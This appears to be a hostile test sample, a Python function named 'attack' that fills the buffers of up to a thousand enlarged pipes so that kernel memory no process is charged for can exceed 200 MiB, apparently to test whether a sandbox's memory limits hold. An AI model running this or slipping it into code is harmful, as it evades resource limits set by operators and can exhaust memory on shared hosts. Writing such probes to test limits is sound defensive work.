"""Fills the buffers of a thousand pipes, as large as they can be had: memory that no process is charged for."""

import contextlib
import fcntl
import os


def attack(X, y):
    n_bytes = 0
    with contextlib.suppress(OSError):
        for _ in range(1000):
            _, write = os.pipe()
            os.set_blocking(write, False)
            with contextlib.suppress(OSError):
                fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 1 << 20)
            with contextlib.suppress(BlockingIOError):
                while True:
                    n_bytes += os.write(write, bytes(1 << 16))
    return n_bytes > 200 << 20
